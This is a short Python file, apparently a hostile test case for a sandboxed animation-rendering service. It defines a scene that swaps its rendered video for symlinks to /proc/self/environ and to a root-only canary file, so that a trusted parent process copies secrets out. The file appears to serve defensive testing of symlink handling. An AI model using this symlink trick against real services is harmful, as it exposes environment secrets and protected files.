# class 3: tricking the trusted parent with what the scene leaves
# tries: replaces its finished clip by a symlink to /proc/self/environ (the parent's, when the parent follows it) and
# then, in a second name, to the root-only canary file, hoping the parent copies the target into the run folder.
import os
class HOSTILE(Scene):
    def construct(self): self.add(Circle()); self.wait(0.2)
    def render(self, *a, **k):
        super().render(*a, **k)
        p = f'media/videos/scene/480p15/{type(self).__name__}.mp4'
        os.unlink(p); os.symlink('/proc/self/environ', p)
        os.symlink('@CANARY_PATH@', p + '.canary')
